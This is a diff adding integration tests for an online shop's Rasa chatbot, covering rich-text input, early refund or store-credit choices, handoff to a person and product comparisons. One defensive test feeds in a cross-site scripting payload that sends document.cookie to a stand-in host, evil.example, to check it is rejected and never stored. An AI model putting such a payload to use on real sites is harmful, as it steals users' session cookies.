@@ -11,7 +11,7 @@ import uuid
 
 import pytest
 
-from tests.support.chat import chat, rest_id, tracker
+from tests.support.chat import Turn, chat, rest_id, tracker
 from tools.launcher import Stack
 
 pytestmark = pytest.mark.integration
@@ -24,6 +24,11 @@ def _sender() -> str:
 def _intent(stack: Stack, sender: str) -> str:
     """The intent Rasa gave the shopper's latest message."""
     return tracker(stack, rest_id(sender))["latest_message"]["intent"]["name"]
+
+
+def _said_all(turn: Turn, *responses: str) -> None:
+    missing = [r for r in responses if r not in turn.responses]
+    assert missing == [], f"missing {missing}; the assistant said {turn.responses}"
 
 
 def _verified(stack: Stack, sender: str, opening: str, number: str, contact: str) -> None:
@@ -162,3 +167,126 @@ def test_yes_to_the_person_offered_when_an_order_is_not_found_hands_off(stack: S
     assert "utter_order_number_invalid" not in turn.responses
     assert "action_handoff" in turn.actions
     assert "utter_handoff_queued" in turn.responses
+
+
+# -- markup, a resolution named early, a person asked for in the form's terms (issue #12) ----------
+
+
+def test_a_pasted_bold_order_question_is_read_as_its_text_and_recorded_without_markup(stack: Stack) -> None:
+    sender = _sender()
+    turn = chat(stack, sender, "<b>where is my order</b> 1001")
+    assert turn.responses == ["utter_ask_order_contact"]  # the number in the markup was read
+    assert tracker(stack, rest_id(sender))["latest_message"]["text"] == "where is my order 1001"
+    _said_all(chat(stack, sender, "<p>ava.shopper@example.com</p>"), "utter_order_in_transit")
+    stored = [e["text"] for e in tracker(stack, rest_id(sender))["events"] if e["event"] == "user"]
+    assert stored == ["where is my order 1001", "ava.shopper@example.com"]  # what the console shows
+
+
+@pytest.mark.parametrize(
+    ("text", "response"),
+    [
+        ("<p>hi</p>", "utter_greet"),
+        ("<div>do you ship to <i>Canada</i>?</div>", "utter_shipping_header"),
+        ("<p>what&#39;s your return policy?</p><br>", "utter_return_policy"),
+    ],
+)
+def test_widget_rich_text_is_answered_as_its_text(stack: Stack, text: str, response: str) -> None:
+    sender = _sender()
+    _said_all(chat(stack, sender, text), response)
+
+
+def test_a_bare_script_tag_is_an_unclear_message_and_never_stored_as_markup(stack: Stack) -> None:
+    sender = _sender()
+    turn = chat(
+        stack, sender, "<script>document.location='https://evil.example/?c='+document.cookie</script>"
+    )
+    assert turn.responses == ["utter_fallback_rephrase"]
+    assert "<script" not in str(tracker(stack, rest_id(sender))["events"])
+
+
+def _at_the_condition_question(stack: Stack, sender: str) -> None:
+    _verified(stack, sender, "I'd like to return something I bought", "#1002", "ava.shopper@example.com")
+    _said_all(chat(stack, sender, "the Slim Fit Selvedge Jeans"), "utter_ask_return_reason")
+    assert chat(stack, sender, "they're a bit too tight").responses == ["utter_ask_return_condition"]
+
+
+@pytest.mark.parametrize("money_back", ["refund please", "just give me my money back", "I want a refund"])
+def test_a_refund_asked_for_at_the_condition_question_is_the_preference(
+    stack: Stack, money_back: str
+) -> None:
+    sender = _sender()
+    _at_the_condition_question(stack, sender)
+    turn = chat(stack, sender, money_back)
+    assert turn.responses == ["utter_return_preference_refund", "utter_ask_return_condition"]
+    state = tracker(stack, rest_id(sender))
+    assert state["slots"]["return_condition"] is None and state["slots"]["return_resolution"] == "refund"
+    confirm = chat(stack, sender, "yes, tags still on")
+    assert confirm.responses == ["utter_ask_return_confirmed_refund"]  # not asked refund-or-exchange again
+    kept = chat(stack, sender, "no, leave it")  # nothing written to the shared store
+    assert (
+        "action_submit_return" in kept.actions and "utter_ask_return_confirmed_refund" not in kept.responses
+    )
+
+
+def test_store_credit_asked_for_at_the_reason_question_is_kept_and_the_reason_asked_again(
+    stack: Stack,
+) -> None:
+    sender = _sender()
+    _verified(stack, sender, "i want to send something back", "#1002", "ava.shopper@example.com")
+    chat(stack, sender, "the Slim Fit Selvedge Jeans")
+    turn = chat(stack, sender, "store credit is fine by me")
+    assert turn.responses == ["utter_return_preference_store_credit", "utter_ask_return_reason"]
+    assert chat(stack, sender, "too loose").responses == ["utter_ask_return_condition"]
+    assert chat(stack, sender, "yep unworn").responses == ["utter_ask_return_confirmed_store_credit"]
+    chat(stack, sender, "no, don't")
+
+
+@pytest.mark.parametrize(
+    ("opening", "number", "demand"),
+    [
+        ("where's my order", "#1001", "I'm not giving you my email, get me a human"),
+        ("cancel my order please", "1003", "why do you need my email just let me talk to someone"),
+        ("i want to return something", "#1002", "not typing my phone number, put me through to a person"),
+        ("has my order shipped", "1004", "nope not giving my email out. want someone from the shop"),
+    ],
+)  # fmt: skip
+def test_a_demand_for_a_person_at_the_contact_question_hands_off(
+    stack: Stack, opening: str, number: str, demand: str
+) -> None:
+    sender = _sender()
+    chat(stack, sender, opening)
+    _said_all(chat(stack, sender, number), "utter_ask_order_contact")
+    turn = chat(stack, sender, demand)
+    assert "action_handoff" in turn.actions
+    assert "utter_handoff_queued" in turn.responses
+    assert "utter_order_contact_invalid" not in turn.responses
+    assert not (tracker(stack, rest_id(sender))["active_loop"] or {}).get("name")
+
+
+def test_a_return_policy_question_at_the_condition_question_is_answered_then_asked_again(
+    stack: Stack,
+) -> None:
+    sender = _sender()
+    _at_the_condition_question(stack, sender)
+    turn = chat(stack, sender, "hang on, how many days do I have to get it back to you?")
+    assert turn.responses[0] == "utter_return_policy", turn.responses
+    assert turn.responses[-1] == "utter_ask_return_condition"
+    assert "utter_return_preference_refund" not in turn.responses  # a question is no preference
+    chat(stack, sender, "stop")
+
+
+def test_frustration_while_the_shipping_question_waits_for_a_country_hands_off(stack: Stack) -> None:
+    sender = _sender()
+    asked = chat(stack, sender, "how much is delivery?")
+    assert asked.responses[-1] == "utter_ask_shipping_form_country", asked.responses
+    turn = chat(stack, sender, "oh come on, this is hopeless, I've asked you three times already")
+    assert "action_handoff" in turn.actions
+    assert "utter_handoff_queued" in turn.responses
+    assert not (tracker(stack, rest_id(sender))["active_loop"] or {}).get("name")
+
+
+def test_a_difference_between_two_products_describes_both(stack: Stack) -> None:
+    sender = _sender()
+    turn = chat(stack, sender, "what's the difference between the Chelsea Boot and the Trail Runner")
+    assert turn.responses.count("utter_product_compare_item") == 2, turn.responses
+    assert "Chelsea Boot" in turn.text and "Trail Runner" in turn.text
